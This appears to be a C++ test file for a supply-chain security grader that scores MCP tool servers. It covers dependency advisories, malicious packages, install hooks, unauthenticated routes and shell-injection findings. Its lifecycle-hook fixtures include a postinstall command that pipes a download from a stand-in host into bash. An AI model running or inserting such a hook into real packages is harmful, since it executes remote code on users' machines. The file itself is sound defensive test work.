// AS-004, 008, 014, 015, 016, 018, 019 from evidence, in both strictnesses.
#include "detect/detect.h"
#include "grade/supply_server.h"
#include "grade/test_server.h"

namespace mcpjury {
namespace {

using testing::contribution_of;
using testing::SupplyServer;

std::int64_t points(SupplyServer& server, std::string_view rule, Strictness strictness) {
  const auto assessed = grade_tooltrust(server.input());
  const Contribution* found = contribution_of(assessed.at(strictness).contributions, rule);
  return found == nullptr ? -1 : found->points;
}

void expect_points(Facet facet, std::string_view json, std::string_view rule, std::int64_t published,
                   std::int64_t precise) {
  SupplyServer server;
  server.set(facet, json);
  EXPECT_EQ(points(server, rule, Strictness::kPublished), published) << rule << json;
  EXPECT_EQ(points(server, rule, Strictness::kPrecise), precise) << rule << json;
}

std::string advisory(std::string_view rest) {
  return R"({"packages":[{"ecosystem":"npm","name":"dev","version":"1","development":true}],
             "advisories":[{"id":"A","ecosystem":"npm","version":"1",)" +
         std::string(rest) + "}]}";
}

TEST(ToolTrustSupply, KnownVulnerabilities) {
  const auto check = [](std::string_view rest, std::int64_t published, std::int64_t precise) {
    expect_points(Facet::kDependencies, advisory(rest), "AS-004", published, precise);
  };
  check(R"("package":"a","direct":true,"cvss_tenths":98)", 25, 25);
  check(R"("package":"a","direct":true,"cvss_tenths":75)", 15, 15);
  check(R"("package":"a","direct":true,"cvss_tenths":53)", 15, 8);
  check(R"("package":"a","direct":true,"cvss_tenths":21)", 15, 2);
  // Brought in by others and reached by nothing that was seen: at most medium, yet the published words stand.
  check(R"("package":"a","direct":false,"cvss_tenths":98)", 25, 8);
  check(R"("package":"a","direct":false,"reachable":true,"cvss_tenths":98)", 25, 25);
  check(R"("package":"dev","cvss_tenths":98)", 25, -1);
}

TEST(ToolTrustSupply, EveryAdvisoryCounts) {
  expect_points(
      Facet::kDependencies,
      R"({"advisories":[{"id":"A","ecosystem":"npm","package":"a","version":"1","direct":true,"cvss_tenths":75},
                                  {"id":"B","ecosystem":"npm","package":"a","version":"1","direct":true,"cvss_tenths":75}]})",
      "AS-004", 30, 30);
}

TEST(ToolTrustSupply, BlockForcesFAndWarnDoesNot) {
  SupplyServer server;
  server.set(
      Facet::kDependencies,
      R"({"advisories":[{"id":"M","ecosystem":"PyPI","package":"litellm","version":"1.82.7","kind":"malicious","action":"block"}]})");
  auto assessed = grade_tooltrust(server.input());
  EXPECT_EQ(assessed.precise.grade, 'F');
  EXPECT_EQ(assessed.published.grade, 'F');
  EXPECT_TRUE(assessed.precise.block_override);
  EXPECT_EQ(assessed.precise.action, "BLOCK");
  server.set(
      Facet::kDependencies,
      R"({"advisories":[{"id":"M","ecosystem":"GitHub Actions","package":"a/trivy-action","version":"v0.1.0","kind":"malicious","action":"warn"}]})");
  assessed = grade_tooltrust(server.input());
  EXPECT_FALSE(assessed.precise.block_override);
  EXPECT_EQ(points(server, "AS-008", Strictness::kPrecise), 15);
}

TEST(ToolTrustSupply, LifecycleScripts) {
  const auto check = [](std::string_view hook, std::int64_t published, std::int64_t precise) {
    expect_points(
        Facet::kDependencies,
        R"({"install_hooks":[{"ecosystem":"npm","package":"a","version":"1",)" + std::string(hook) + "}]}",
        "AS-015", published, precise);
  };
  check(R"("hook":"postinstall","command":"node-gyp rebuild","behaviours":["build"])", 8, 0);
  check(R"("hook":"prepare","command":"tsc","behaviours":[])", 8, 0);
  check(R"("hook":"postinstall","command":"curl -O https://x.example","behaviours":["fetches"])", 15, 8);
  check(
      R"("hook":"postinstall","command":"curl https://x.example/a | bash","behaviours":["fetches","runs_shell"])",
      15, 15);
}

TEST(ToolTrustSupply, TheRest) {
  expect_points(
      Facet::kDependencies,
      R"({"indicators":[{"ecosystem":"npm","package":"a","version":"1","indicator":"plain-crypto-js","kind":"package"}]})",
      "AS-016", 25, 25);
  expect_points(Facet::kSource,
                R"({"routes":[{"path":"/mcp","authenticated":true,"file":"r.go","handler":"h"},
                              {"path":"/mcp_message","authenticated":false,"file":"r.go","handler":"h"}]})",
                "AS-019", 15, 15);
  expect_points(Facet::kSource, R"({"routes":[{"path":"/mcp","authenticated":false,"file":"r.go"}]})",
                "AS-019", 15, -1);
  SupplyServer server;
  server.set(Facet::kDefinition, "{}");
  server.set(Facet::kSource, R"({"embedded_servers":[{"sdk":"mcp","file":"server.py","line":3}]})");
  EXPECT_EQ(points(server, "AS-018", Strictness::kPrecise), 0);
  EXPECT_EQ(grade_tooltrust(server.input()).precise.grade, '-') << "no tool could be listed: never A";
}

TEST(ToolTrustSupply, SubjectsAndPlacesAreThoseOfTheEvidence) {
  SupplyServer server;
  server.set(Facet::kSource,
             R"({"facts":[{"fact":"shell-from-parameter","tool":"git_log","file":"src/git.ts","line":40,
    "confidence":"high","source_to_sink":["src/git.ts:38 args.ref","src/git.ts:40 exec"]}]})");
  const Finding* shell = server.finding("shell-injection");
  ASSERT_NE(shell, nullptr);
  EXPECT_EQ(shell->subject.type, SubjectType::kTool);
  EXPECT_EQ(shell->subject.name, "git_log");
  EXPECT_EQ(shell->pointer, "/facets/source/data/facts/0");
  EXPECT_NE(shell->message.find("src/git.ts:38 args.ref -> src/git.ts:40 exec"), std::string::npos);
  server.set(
      Facet::kDependencies,
      R"({"advisories":[{"id":"A","ecosystem":"npm","package":"lodash","version":"4.17.11","direct":true,"cvss_tenths":91}]})");
  const Finding* package = server.finding("vulnerable-dependency");
  ASSERT_NE(package, nullptr);
  EXPECT_EQ(package->subject.name, "lodash 4.17.11 (npm)");
  EXPECT_EQ(package->severity, Severity::kCritical);
  EXPECT_EQ(package->cvss_tenths, 91);
}

}  // namespace
}  // namespace mcpjury
